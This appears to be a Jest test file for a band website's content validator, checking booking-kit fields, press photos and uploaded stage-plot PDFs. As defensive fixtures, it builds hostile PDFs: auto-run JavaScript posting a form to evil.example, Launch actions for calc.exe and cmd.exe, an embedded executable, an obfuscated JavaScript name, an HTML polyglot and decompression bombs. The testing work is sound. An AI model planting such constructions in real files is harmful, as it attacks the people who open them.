/** @jest-environment node */
// The booking kit's content (content/booking.json): every field optional, the file itself too; what the band does
// fill in is checked like the rest, in the same words (a misspelt field, a photo too small to print, a stage plot
// that is not the PDF or picture it claims to be).
import { promises as fs } from "fs"
import path from "path"
import { contentFixture, writeImage, type ContentData } from "../__fixtures__/content-fixture"
import { deflateSync } from "zlib"
import { onePagePdf, pdfOf } from "../__fixtures__/edited-content"
import { pdfLimits } from "../image-words"
import { readPdf } from "../pdf-reading"
import { minimumImageWidth } from "../schema"
import { checkContent, formatProblems } from "../validate"

// Each check reads the stage plot in a process of its own (pdf-reading.ts): a second or more on a busy machine.
jest.setTimeout(30_000)

/** The fixture with a booking kit the band has filled in, changed further by `change`. */
async function withBooking(change: (booking: ContentData[`booking`][`booking`]) => void = () => undefined) {
  const contentDir = await contentFixture((data) => {
    data.booking.booking = {
      bio: `A longer story.`,
      genres: [`Rock`],
      setLengths: `45 minutes`,
      brings: `Amps`,
      needs: `Power`,
      stagePlot: `images/booking/stage-plot.pdf`,
      pressPhotos: [{ img: `images/booking/on-stage.jpg`, alt: `The band on stage`, credit: `A friend` }],
    }
    change(data.booking.booking)
  })
  await writeImage(contentDir, `images/booking/on-stage.jpg`, minimumImageWidth.pressPhoto, `jpeg`)
  await fs.writeFile(path.join(contentDir, `images/booking/stage-plot.pdf`), onePagePdf(`Stage plot`))
  return contentDir
}

const problemsIn = async (contentDir: string) => formatProblems((await checkContent(contentDir)).problems)

test(`content without booking.json builds: the booking page then shows what band.json and the shows say`, async () => {
  const contentDir = await contentFixture()
  await fs.rm(path.join(contentDir, `booking.json`))
  expect(await problemsIn(contentDir)).toBe(``)
})

test(`an empty booking kit and a filled one are both accepted, a PDF stage plot included`, async () => {
  expect(await problemsIn(await contentFixture())).toBe(``)
  expect(await problemsIn(await withBooking())).toBe(``)
})

test(`a misspelt booking field is named, with the fields it can be`, async () => {
  const contentDir = await withBooking((booking) => {
    booking.setLength = booking.setLengths
    delete booking.setLengths
  })
  expect(await problemsIn(contentDir)).toBe(
    `content/booking.json: "setLength" is not a field the booking kit can have; did you mean "setLengths"? The fields are bio, genres, setLengths, brings, needs, stagePlot and pressPhotos`,
  )
})

test(`a press photo too small to print is refused, naming the photo`, async () => {
  const contentDir = await withBooking()
  await writeImage(contentDir, `images/booking/on-stage.jpg`, 800, `jpeg`)
  expect(await problemsIn(contentDir)).toBe(
    `content/booking.json: press photo 1: "img" is "images/booking/on-stage.jpg", which is only 800px wide; a press photo must be at least 1200px wide to stay sharp on high-resolution screens, so export a larger one`,
  )
})

test(`a stage plot named .pdf that is a picture, or written in Word, is refused`, async () => {
  const renamed = await withBooking()
  await writeImage(renamed, `images/booking/stage-plot.pdf`, 900)
  expect(await problemsIn(renamed)).toMatch(
    /^content\/booking\.json: "stagePlot" is "images\/booking\/stage-plot\.pdf", but that file is .*, not a PDF/,
  )
  const inWord = await withBooking((booking) => {
    booking.stagePlot = `images/booking/stage-plot.docx`
  })
  expect(await problemsIn(inWord)).toBe(
    `content/booking.json: "stagePlot" is "images/booking/stage-plot.docx", which does not end in .pdf, .png, .jpg, .jpeg, .webp or .avif; the site can only offer those, so save the stage plot as PDF, or export it as PNG or JPEG`,
  )
})

const stagePlot = `content/booking.json: "stagePlot" is "images/booking/stage-plot.pdf"`
const saveAgain = `save the stage plot again as PDF, or export it as PNG or JPEG`

test.each([
  [
    `a YAML file that starts with "%PDF-"`,
    `%PDF-1.4\nbackend:\n  name: github\n  base_url: https://evil.example\n`,
  ],
  [`the first line of a PDF and its end, with nothing between`, `%PDF-1.4\n%%EOF\n`],
  [`half of a PDF`, onePagePdf(`Stage plot`).subarray(0, 200)],
])(`a stage plot that only starts like a PDF is refused: %s`, async (_name, bytes) => {
  const contentDir = await withBooking()
  await fs.writeFile(path.join(contentDir, `images/booking/stage-plot.pdf`), bytes)
  expect(await problemsIn(contentDir)).toBe(
    `${stagePlot}, which starts like a PDF but does not open as one (perhaps a damaged or half-copied file, or another kind of file renamed); ${saveAgain}`,
  )
})

test(`a PDF without a page is refused`, async () => {
  const contentDir = await withBooking()
  const noPages = onePagePdf(`Stage plot`)
    .toString(`latin1`)
    .replace(`/Kids [3 0 R] /Count 1`, `/Kids [     ] /Count 0`)
  await fs.writeFile(path.join(contentDir, `images/booking/stage-plot.pdf`), noPages, `latin1`)
  expect(await problemsIn(contentDir)).toBe(`${stagePlot}, which is a PDF without a page; ${saveAgain}`)
})

test(`a PDF over 20 MB is refused without being opened`, async () => {
  const contentDir = await withBooking()
  const file = path.join(contentDir, `images/booking/stage-plot.pdf`)
  await fs.appendFile(file, Buffer.alloc(21_000_000))
  expect(await problemsIn(contentDir)).toBe(
    `${stagePlot}, which is a 21.0 MB file; the site takes files up to 20 MB (a photo straight from a phone fits), since each goes into the site's repository as it is; save the stage plot again as a smaller PDF (most PDF programs have a "reduce file size" choice)`,
  )
})

test(`a press photo without words for people who cannot see it is refused`, async () => {
  const contentDir = await withBooking((booking) => {
    delete booking.pressPhotos[0].alt
  })
  expect(await problemsIn(contentDir)).toBe(
    `content/booking.json: press photo 1: "alt" is missing; add it, like "alt": "The band on stage at The Space in Champaign"`,
  )
})

const printAgain = `a stage plot needs none of that, and a booker's PDF reader could run it, so print the stage plot to a new PDF ("Save as PDF" or "Microsoft Print to PDF" in the print window), which leaves it out, or export it as PNG or JPEG`

/** An object stream holding `objects` compressed, as PDF 1.5 writers keep most objects (out of sight of a plain look). */
const objectStream = (objects: string) => {
  const packed = deflateSync(Buffer.from(`7 0 ${objects}`, `latin1`))
  return Buffer.concat([
    Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from(`\nendstream`),
  ])
}

test.each([
  [
    `a JavaScript action run when it opens that submits a form, and a page that starts a program`,
    pdfOf({
      catalog: `/OpenAction << /S /JavaScript /JS (this.submitForm\\("https://evil.example/"\\)) >>`,
      page: `/AA << /O << /S /Launch /F (calc.exe) >> >>`,
    }),
    `JavaScript, an action that starts a program (Launch), an action run when the file is opened (OpenAction) and actions run when a page is opened or a field touched (AA)`,
  ],
  [
    `an action that starts a program, run when it opens`,
    pdfOf({ catalog: `/OpenAction << /S /Launch /F (cmd.exe) >>` }),
    `an action that starts a program (Launch) and an action run when the file is opened (OpenAction)`,
  ],
  [
    `a file inside it`,
    pdfOf({
      catalog: `/Names << /EmbeddedFiles << /Names [(setlist.exe) 6 0 R] >> >>`,
      objects: [
        `<< /Type /Filespec /F (setlist.exe) /EF << /F 7 0 R >> >>`,
        `<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream`,
      ],
    }),
    `files inside it (EmbeddedFiles)`,
  ],
  [
    `a link that is not https`,
    pdfOf({
      page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (http://evil.example/) >> >>]`,
    }),
    `a link to "http://evil.example/", which is not an https address`,
  ],
  [
    `JavaScript under a name written in codes (/J#61vaScript)`,
    pdfOf({
      catalog: `/Names << /J#61vaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>`,
    }),
    `JavaScript`,
  ],
  [
    `an action that starts a program, packed in a compressed object stream`,
    pdfOf({ objects: [objectStream(`<< /S /Launch /F (calc.exe) >>`)] }),
    `an action that starts a program (Launch)`,
  ],
])(
  `a stage plot with %s is refused, naming what it holds`,
  async (_name, bytes, holds) => {
    const contentDir = await withBooking()
    await fs.writeFile(path.join(contentDir, `images/booking/stage-plot.pdf`), bytes)
    expect(await problemsIn(contentDir)).toBe(`${stagePlot}, which holds ${holds}; ${printAgain}`)
  },
  30_000,
)

test(`a stage plot with a link to an https page or an e-mail address, or that opens at its first page, is fine`, async () => {
  const contentDir = await withBooking()
  const link = (target: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (${target}) >> >>`
  const bytes = pdfOf({
    catalog: `/OpenAction [3 0 R /Fit]`,
    page: `/Annots [${link(`https://www.instagram.com/milkpatrolband/`)} ${link(`mailto:milkpatrolband@gmail.com`)}]`,
  })
  await fs.writeFile(path.join(contentDir, `images/booking/stage-plot.pdf`), bytes)
  expect(await problemsIn(contentDir)).toBe(``)
}, 30_000)

test(`a stage plot that is a web page too, or that claims 200,000 pages, is refused`, async () => {
  const contentDir = await withBooking()
  const file = path.join(contentDir, `images/booking/stage-plot.pdf`)
  await fs.writeFile(
    file,
    pdfOf({ start: `%<html><body><script>alert(document.domain)</script></body></html>\n` }),
  )
  expect(await problemsIn(contentDir)).toBe(
    `${stagePlot}, which starts like a PDF but holds a web page's tags in its first bytes (a file that is both, which a browser could show as a page, scripts and all); ${saveAgain}`,
  )
  await fs.writeFile(file, pdfOf({ count: 200_000 }))
  expect(await problemsIn(contentDir)).toBe(
    `${stagePlot}, which has 200,000 pages; a stage plot has a page or a few, and the site takes up to 100, so save only the stage plot's pages as PDF`,
  )
}, 30_000)

/** A picture on page 1 of `width`×`height` RGB pixels, whose bytes are `packed` (its Flate-compressed pixels). */
const pictureOnPage = (width: number, height: number, packed: Buffer) =>
  pdfOf({
    page: `/Resources << /XObject << /Im1 6 0 R >> >>`,
    objects: [
      Buffer.concat([
        Buffer.from(
          `<< /Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
        ),
        packed,
        Buffer.from(`\nendstream`),
      ]),
    ],
  })

const unpacksTooMuch = `${stagePlot}, whose pages and pictures unpack to more than 128 MB when it is opened (a stage plot unpacks to a few MB); save the stage plot again as a smaller PDF (most PDF programs have a "reduce file size" choice), or export it as PNG or JPEG`

test(`a stage plot whose page 1 unpacks past the budget is refused before it is drawn: a picture that says so, or bytes that inflate so`, async () => {
  const contentDir = await withBooking()
  const file = path.join(contentDir, `images/booking/stage-plot.pdf`)
  // 20,000×20,000 pixels: 1.2 GB decoded, from 1 KB.
  await fs.writeFile(file, pictureOnPage(20_000, 20_000, deflateSync(Buffer.alloc(1000))))
  expect(await problemsIn(contentDir)).toBe(unpacksTooMuch)
  // A stream of 0.2 MB that inflates to 200 MB: inflated no further than the budget.
  const zeros = deflateSync(Buffer.alloc(200_000_000), { level: 1 })
  await fs.writeFile(file, pictureOnPage(100, 100, zeros))
  expect(await problemsIn(contentDir)).toBe(unpacksTooMuch)
}, 60_000)

test(`the reader runs in a process of its own, ended when it holds more memory or takes more time than its limits`, async () => {
  const contentDir = await withBooking()
  const file = path.join(contentDir, `images/booking/stage-plot.pdf`)
  expect(await readPdf(file)).toMatchObject({ contents: { pages: 1, active: [], webPage: false } })
  // Node alone holds more than 20 MB: the process's own watch ends it.
  expect(await readPdf(file, { ...pdfLimits, megabytes: 20 })).toEqual({ tooMuch: `memory` })
  expect(await readPdf(file, { ...pdfLimits, milliseconds: 1 })).toEqual({ tooMuch: `time` })
}, 30_000)
